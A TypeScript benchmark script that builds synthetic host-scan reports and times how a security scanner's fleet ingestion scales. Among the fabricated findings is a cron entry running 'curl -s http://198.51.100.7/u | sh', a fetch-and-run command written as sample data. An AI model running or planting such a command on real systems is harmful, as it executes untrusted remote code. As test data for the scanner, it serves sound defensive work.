/**
 * Fleet benchmark (a measurement, not a test): how `sys-scan fleet` scales with the number of reports. Scans
 * this host once (or takes `--base REPORT.json`), makes N synthetic hosts from that real report with variations
 * (host name, scan time, risk, a few dropped findings, rare listeners, modules and persistence entries on some
 * hosts, one NDJSON report in four), then times `sys-scan fleet --dir` into a fresh database for each N and
 * reports wall and CPU time, the ingest time the command measures itself, and peak memory (GNU time maxrss).
 * Writes dist/bench-fleet/results.json and results.md and prints the table.
 *
 *   deno run -A scripts/bench_fleet.ts [--counts 1000,10000] [--base REPORT.json] [--out dist/bench-fleet]
 *                                      [--exe PATH] [--keep]
 */
import { parseArgs } from "node:util";
import type { Report } from "../src/core/report.ts";
import { NdjsonStream } from "../src/output/ndjson.ts";
import { timedRun } from "./bench.ts";

const REPO = decodeURIComponent(new URL("../", import.meta.url).pathname);

type Finding = Report["results"][number]["findings"][number];

/** A small deterministic PRNG (mulberry32), so every run makes the same fleet. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function extra(checkId: string, subject: string, metadata: Finding["metadata"], risk: number): Finding {
  return {
    id: `${checkId}:${subject}`,
    check_id: checkId,
    scanner: "bench",
    title: checkId,
    description: "synthetic",
    severity: risk >= 70 ? "high" : "medium",
    base_severity_score: 50,
    risk_score: risk,
    metadata,
    mitre: [],
    tags: [],
  };
}

/**
 * Host `i` of a synthetic fleet made from a real report: its own name, scan time and risk; about 5% of the
 * findings dropped; a rare listener on 1 host in 100, an extra module on 1 in 50, a cron entry on 1 in 20, and
 * one authorized key of its own (a per-host item, as real fleets have).
 */
export function synthesize(base: Report, i: number, startMs: number): Report {
  const rnd = prng(i + 1);
  const r = structuredClone(base);
  const name = `host-${String(i).padStart(5, "0")}`;
  r.meta.hostname = name;
  r.summary.started_at = new Date(startMs + i * 1000).toISOString();
  for (const res of r.results) res.findings = res.findings.filter(() => rnd() >= 0.05);
  const add: Finding[] = [
    extra("persistence.inventory.point", `authorized_keys:/root/.ssh/authorized_keys`, {
      kind: "authorized_keys",
      path: "/root/.ssh/authorized_keys",
      entries: [`ssh-ed25519 AAAA${name} admin@${name}`],
    }, 0),
  ];
  if (i % 100 === 7) {
    add.push(
      extra("net.listen.suspicious_port", `tcp:0.0.0.0:${4000 + (i % 7)}`, {
        protocol: "tcp",
        local_port: 4000 + (i % 7),
        exe: "/tmp/.cache/agent",
      }, 80),
    );
  }
  if (i % 50 === 3) add.push(extra("module.out_of_tree", `extra_${i % 5}`, { module: `extra_${i % 5}` }, 40));
  if (i % 20 === 11) {
    add.push(extra("persistence.command.download_exec", "/etc/cron.d/update:ab12", {
      kind: "cron",
      path: "/etc/cron.d/update",
      command: "curl -s http://198.51.100.7/u | sh",
    }, 85));
  }
  r.results.push({ ...r.results[0], scanner: "bench", findings: add, finding_count: add.length });
  const risk = Math.min(
    100,
    Math.max(0, Math.round(base.summary_extension.host_risk.score - 20 + rnd() * 40)),
  );
  r.summary_extension.host_risk.score = risk;
  r.summary_extension.host_risk.level = risk >= 90
    ? "critical"
    : risk >= 70
    ? "high"
    : risk >= 50
    ? "medium"
    : risk >= 30
    ? "low"
    : "info";
  return r;
}

/** The report as NDJSON, written by the real NDJSON stream. */
export async function ndjsonOf(report: Report): Promise<string> {
  const parts: string[] = [];
  const s = new NdjsonStream({ write: (t) => void parts.push(t) });
  await s.meta(report.meta);
  for (const r of report.results) for (const f of r.findings) await s.finding(f);
  await s.finish(report, false);
  return parts.join("");
}

async function writeFleet(base: Report, dir: string, n: number): Promise<number> {
  let bytes = 0;
  const start = Date.parse("2026-01-01T00:00:00Z");
  for (let i = 0; i < n; i++) {
    const r = synthesize(base, i, start);
    const sub = `${dir}/${String(Math.floor(i / 1000)).padStart(3, "0")}`;
    if (i % 1000 === 0) Deno.mkdirSync(sub, { recursive: true });
    const text = i % 4 === 3 ? await ndjsonOf(r) : JSON.stringify(r);
    Deno.writeTextFileSync(`${sub}/${r.meta.hostname}.${i % 4 === 3 ? "ndjson" : "json"}`, text);
    bytes += text.length;
  }
  return bytes;
}

/** One measured fleet run. */
export interface FleetSample {
  reports: number;
  bytes: number;
  wall_ms: number;
  cpu_ms: number | null;
  maxrss_mb: number | null;
  ingest_ms: number;
  ingest_us_per_report: number;
  ingested: number;
  db_mb: number;
}

async function measure(
  prefix: string[],
  dir: string,
  db: string,
  tmp: string,
): Promise<Omit<FleetSample, "bytes">> {
  const out = `${tmp}/fleet.json`;
  const full = [...prefix, "fleet", "--dir", dir, "--db", db, "--output", out];
  const t = await timedRun(full, tmp);
  if (t.code !== 0) throw new Error(`${full.join(" ")} exited ${t.code}: ${t.stderr.slice(-800)}`);
  const report = JSON.parse(Deno.readTextFileSync(out));
  const ingestMs = report.run.ingest_ms as number;
  return {
    reports: report.run.files,
    wall_ms: Math.round(t.wall_ms),
    cpu_ms: t.cpu_ms,
    maxrss_mb: t.maxrss_mb,
    ingest_ms: ingestMs,
    ingest_us_per_report: Math.round((ingestMs * 1000) / Math.max(1, report.run.files)),
    ingested: report.run.ingested,
    db_mb: Math.round(Deno.statSync(db).size / 1e5) / 10,
  };
}

function markdown(samples: FleetSample[], baseInfo: string): string {
  const lines = [
    `Base report: ${baseInfo}. Every fourth synthetic report is NDJSON.`,
    "",
    "| Reports | Input | Wall | CPU | Ingest (measured by fleet) | Ingest per report | Peak RSS | Database |",
    "| ------- | ----- | ---- | --- | -------------------------- | ----------------- | -------- | -------- |",
    ...samples.map((s) =>
      `| ${s.reports} | ${Math.round(s.bytes / 1e6)} MB | ${(s.wall_ms / 1000).toFixed(1)} s | ${
        s.cpu_ms === null ? "–" : `${(s.cpu_ms / 1000).toFixed(1)} s`
      } | ${(s.ingest_ms / 1000).toFixed(1)} s | ${s.ingest_us_per_report / 1000} ms | ${
        s.maxrss_mb ?? "–"
      } MB | ${s.db_mb} MB |`
    ),
  ];
  if (samples.length >= 2) {
    const [a, b] = [samples[0], samples.at(-1)!];
    const perReport = (x: FleetSample) => x.cpu_ms === null ? null : x.cpu_ms / x.reports;
    const [ca, cb] = [perReport(a), perReport(b)];
    lines.push(
      "",
      `CPU time per report, ${b.reports} vs ${a.reports} reports: ${
        ca === null || cb === null
          ? "–"
          : `${ca.toFixed(2)} → ${cb.toFixed(2)} ms (ratio ${(cb / ca).toFixed(2)}; 1.0 = linear)`
      }. Wall-clock ingest per report: ratio ${
        (b.ingest_us_per_report / a.ingest_us_per_report).toFixed(2)
      }. ` +
        `Peak RSS: ${a.maxrss_mb ?? "–"} → ${b.maxrss_mb ?? "–"} MB.`,
    );
  }
  return lines.join("\n") + "\n";
}

async function main(): Promise<number> {
  const { values } = parseArgs({
    args: Deno.args,
    options: {
      counts: { type: "string", default: "1000,10000" },
      base: { type: "string" },
      out: { type: "string", default: "dist/bench-fleet" },
      exe: { type: "string" },
      keep: { type: "boolean", default: false },
    },
  });
  const counts = values.counts.split(",").map(Number).filter((n) => Number.isInteger(n) && n > 0);
  const prefix = values.exe ? [values.exe] : [Deno.execPath(), "run", "-A", `${REPO}main.ts`];
  const tmp = Deno.makeTempDirSync({ prefix: "sys-scan-bench-fleet-" });
  try {
    let basePath = values.base;
    if (!basePath) {
      basePath = `${tmp}/base.json`;
      console.error("bench_fleet: scanning this host once for the base report");
      const o = await new Deno.Command(prefix[0], {
        args: [
          ...prefix.slice(1),
          "--hardening",
          "--persistence-inventory",
          "--include-passed",
          "--output",
          basePath,
        ],
        cwd: REPO,
        stdout: "null",
        stderr: "null",
      }).output();
      if (o.code !== 0 && o.code !== 1) throw new Error(`base scan exited ${o.code}`);
    }
    const base = JSON.parse(Deno.readTextFileSync(basePath)) as Report;
    const findings = base.results.reduce((n, r) => n + r.findings.length, 0);
    const baseInfo = `${findings} findings, ${Math.round(Deno.statSync(basePath).size / 1000)} kB as JSON`;
    const samples: FleetSample[] = [];
    for (const n of counts) {
      const dir = `${tmp}/fleet-${n}`;
      console.error(`bench_fleet: writing ${n} synthetic reports`);
      const bytes = await writeFleet(base, dir, n);
      console.error(`bench_fleet: ingesting ${n} reports`);
      const s = await measure(prefix, dir, `${tmp}/fleet-${n}.db`, tmp);
      samples.push({ ...s, bytes });
      if (!values.keep) Deno.removeSync(dir, { recursive: true });
    }
    const md = markdown(samples, baseInfo);
    Deno.mkdirSync(values.out, { recursive: true });
    Deno.writeTextFileSync(
      `${values.out}/results.json`,
      JSON.stringify(
        {
          measured_at: new Date().toISOString(),
          cpus: navigator.hardwareConcurrency,
          base: baseInfo,
          samples,
        },
        null,
        2,
      ),
    );
    Deno.writeTextFileSync(`${values.out}/results.md`, md);
    console.log(md);
    return 0;
  } finally {
    if (!values.keep) Deno.removeSync(tmp, { recursive: true });
  }
}

if (import.meta.main) Deno.exit(await main());
